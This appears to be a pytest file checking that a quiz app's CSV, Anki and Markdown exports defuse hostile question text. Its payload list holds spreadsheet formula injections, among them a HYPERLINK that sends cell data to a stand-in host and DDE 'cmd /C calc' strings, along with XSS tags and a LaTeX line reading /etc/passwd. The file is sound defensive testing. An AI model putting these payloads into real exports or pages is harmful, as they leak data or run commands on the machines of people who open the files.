"""Exports of hostile bank text: spreadsheet formulas, HTML, Anki media tags, Markdown syntax.

Bank validation refuses control characters but not these: they are ordinary text that the
export formats would otherwise obey. Each output is parsed as its reader would parse it (the
csv module, the .apkg's own SQLite, markdown-it) and checked for what it does, not for how
it is spelled.
"""

import csv
import html
import io
import json
import re
import sqlite3
import zipfile

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from quiz.bank.reader import load_bank
from quiz.export import selection as export
from quiz.export.apkg import FIELDS, write_apkg
from quiz.export.markdown import _BULLET, block, code_span, write_markdown
from quiz.export.spreadsheet import FORMULA_STARTS, anki_cell, spreadsheet_cell, write_csv

PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "＝1+1", "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>", "[sound:evil.mp3]", "[latex]\\input{/etc/passwd}[/latex]",
    "# not a heading", "> not a quote", "===", "---", "1) a list item, as banks write them",
    "- real item",
    "`` ` `` code", "&lt;b&gt; &#91;", "x_i * w < 0 | y ~ z $a$",
]
TAG = "a`<img src=x onerror=alert(1)>`b"
MD = MarkdownIt("commonmark")


@pytest.fixture
def hostile_bank(tmp_path):
    def quoted(text):
        return json.dumps(text, ensure_ascii=False)  # a YAML double-quoted scalar

    answer = "\n".join(PAYLOADS)
    text = (f"topic: evil\ntitle: {{zh: {quoted(PAYLOADS[6])}, en: {quoted(PAYLOADS[7])}}}\n"
            "questions:\n")
    for i, payload in enumerate(PAYLOADS):
        text += (f"  - id: evil-{i}\n    tags: [{quoted(TAG)}, {quoted(payload.split()[0])}]\n"
                 f"    zh: {{q: {quoted(payload)}, a: {quoted(answer)}}}\n"
                 f"    en: {{q: {quoted(payload)}, a: {quoted(payload + chr(10) + '===')}}}\n"
                 f"    note: {{zh: {quoted(payload)}, en: {quoted('ok')}}}\n"
                 f"    sources: [{{title: {quoted(payload)}, question: {quoted(payload)}}}]\n")
    path = tmp_path / "evil.yaml"
    path.write_text(text, encoding="utf-8")
    return load_bank([path])


def csv_of(bank, **kw):
    out = io.StringIO(newline="")
    write_csv(export.flashcards(bank.questions), out, **kw)
    return out.getvalue()


# -- CSV ------------------------------------------------------------------------------------

def test_no_spreadsheet_cell_starts_a_formula(hostile_bank):
    rows = list(csv.reader(io.StringIO(csv_of(hostile_bank))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c and c[0] in FORMULA_STARTS]
    questions = {row[0]: row[3] for row in rows[1:]}
    assert questions["evil-0"] == "'" + PAYLOADS[0]  # shown as written, after the quote
    assert questions["evil-6"] == PAYLOADS[6]  # not a formula: untouched


@given(st.text())
def test_a_spreadsheet_cell_is_text_and_keeps_what_was_written(text):
    cell = spreadsheet_cell(text)
    number = re.fullmatch(r"[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?", text)
    assert cell == text if not text or number or text[0] not in FORMULA_STARTS else (
        cell == "'" + text)
    if cell and not number:
        assert cell[0] not in FORMULA_STARTS


@pytest.mark.parametrize("number", ["-0.5", "-3", "+12", "-1e-3", "0.25"])
def test_plain_numbers_stay_numbers(number):
    assert spreadsheet_cell(number) == number


@given(st.text())
def test_an_anki_html_cell_reads_back_the_same_in_anki_and_is_no_formula(text):
    cell = anki_cell(export.to_html(text))
    assert not cell or cell[0] not in FORMULA_STARTS
    assert html.unescape(cell) == html.unescape(export.to_html(text))


def test_the_anki_header_csv_is_html_and_defused(hostile_bank):
    text = csv_of(hostile_bank, anki_header=True)
    lines = [line for line in text.split("\n") if not line.startswith("#")]
    rows = list(csv.reader(io.StringIO("\n".join(lines))))
    html_cells = [cell for row in rows for cell in row[:2] + row[5:-2]]
    assert not [c for c in html_cells if c and c[0] in FORMULA_STARTS]
    for cell in html_cells:
        assert "<img" not in cell and "<script" not in cell and "[sound:" not in cell
    tags = {tag for row in rows for tag in row[4].split()}
    written = {TAG, "evil", *(p.split()[0] for p in PAYLOADS)}
    assert tags == {re.sub(r"\s+", "_", t.strip()) for t in written}  # Anki tags: no spaces
    assert rows[0][5] == "&#61;HYPERLINK(&quot;http://x.example/?&quot;&amp;A1,&quot;click" \
                         "&quot;)" or html.unescape(rows[0][5]) == PAYLOADS[0]


# -- Anki .apkg -----------------------------------------------------------------------------

def apkg_tables(bank, tmp_path):
    path = tmp_path / "evil.apkg"
    export.write_file(path, lambda out: write_apkg(export.flashcards(bank.questions),
                                                   bank.topics, out, timestamp=1.78e9),
                      force=True)
    with zipfile.ZipFile(path) as archive:
        (tmp_path / "c.anki2").write_bytes(archive.read("collection.anki2"))
    conn = sqlite3.connect(tmp_path / "c.anki2")
    try:
        notes = [dict(zip(FIELDS, flds.split("\x1f"), strict=True))
                 for (flds,) in conn.execute("SELECT flds FROM notes")]
        decks = json.loads(conn.execute("SELECT decks FROM col").fetchone()[0])
    finally:
        conn.close()
    return notes, decks


def test_every_apkg_field_and_deck_description_is_escaped(hostile_bank, tmp_path):
    notes, decks = apkg_tables(hostile_bank, tmp_path)
    assert len(notes) == len(PAYLOADS)
    descriptions = [d["desc"] for d in decks.values()]
    for text in [*descriptions, *(v for note in notes for v in note.values())]:
        assert "<img" not in text and "<script" not in text and "[" not in text
    evil = next(d for d in decks.values() if d["name"] == "quiz::evil")["desc"]
    assert html.unescape(evil) == f"{PAYLOADS[6]} · {PAYLOADS[7]}"
    by_id = {note["ID"]: note for note in notes}
    assert html.unescape(by_id["evil-8"]["QuestionEn"]) == "[sound:evil.mp3]"


# -- Markdown -------------------------------------------------------------------------------

BLOCK_TOKENS = {"paragraph_open", "paragraph_close", "inline", "bullet_list_open",
                "bullet_list_close", "list_item_open", "list_item_close", "blockquote_open",
                "blockquote_close", "heading_open", "heading_close", "fence", "hr",
                "ordered_list_open", "ordered_list_close"}  # `1) ` in a bank is a list item


def test_the_study_sheet_has_only_the_structure_quiz_gave_it(hostile_bank):
    out = io.StringIO()
    write_markdown(export.flashcards(hostile_bank.questions), hostile_bank.topics, out)
    tokens = MD.parse(out.getvalue())
    rendered = MD.render(out.getvalue())
    assert "<img" not in rendered and "<script" not in rendered
    assert {t.type for t in tokens} <= BLOCK_TOKENS  # no html_block, code_block, ordered list
    headings = ["".join(c.content for c in tokens[i + 1].children if c.type == "text")
                for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert headings == ["quiz — 学习单 · study sheet", "目录 · Contents",
                        f"{PAYLOADS[6]} · {PAYLOADS[7]}",
                        *(f"evil-{i}" for i in range(len(PAYLOADS)))]
    inline = [c for t in tokens if t.type == "inline" for c in t.children]
    html_tags = [c.content for c in inline if c.type == "html_inline"]
    assert html_tags == ['<a id="topic-evil">', "</a>"]  # quiz's own anchor, nothing else
    inline = [c for c in inline if c.type != "html_inline"]
    assert {c.type for c in inline} <= {"text", "softbreak", "hardbreak", "strong_open",
                                        "strong_close", "code_inline", "link_open",
                                        "link_close"}
    codes = [c.content for c in inline if c.type == "code_inline"]
    assert codes.count(f"#{TAG}") == len(PAYLOADS)
    quotes = [i for i, t in enumerate(tokens) if t.type == "blockquote_open"]
    assert len(quotes) == 2 * len(PAYLOADS)  # the notes, and nothing a `>` line made


LINE = st.text(st.sampled_from(list("#=-+>*_`~|<>&;[]()!\\$ .1aZ中\t")), max_size=12)


@given(st.lists(LINE, min_size=1, max_size=5))
def test_bank_text_renders_as_the_text_it_is(lines):
    """Property: lines that are not list items become paragraphs holding exactly their text."""
    assume(not any(_BULLET.match(line) for line in lines))
    source = "\n".join(lines)
    assume(source.strip())
    tokens = MD.parse(block(source))
    assert {t.type for t in tokens} <= {"paragraph_open", "paragraph_close", "inline"}
    shown = []
    for token in tokens:
        if token.type == "inline":
            for child in token.children:
                assert child.type in ("text", "softbreak", "hardbreak"), child.type
                shown.append("\n" if child.type != "text" else child.content)
            shown.append("\n")
    said = [" ".join(line.split()) for line in "".join(shown).split("\n") if line.strip()]
    assert said == [" ".join(line.split()) for line in lines if line.strip()]


@given(st.text(st.sampled_from(list("`a #< \n")), min_size=1, max_size=12))
def test_a_code_span_holds_exactly_its_text(text):
    assume(text.strip())
    (token,) = MD.parse(code_span(text))[1:2]
    children = [c for c in token.children if c.type != "text" or c.content]
    assert [c.type for c in children] == ["code_inline"]
    assert children[0].content == " ".join(text.split("\n"))
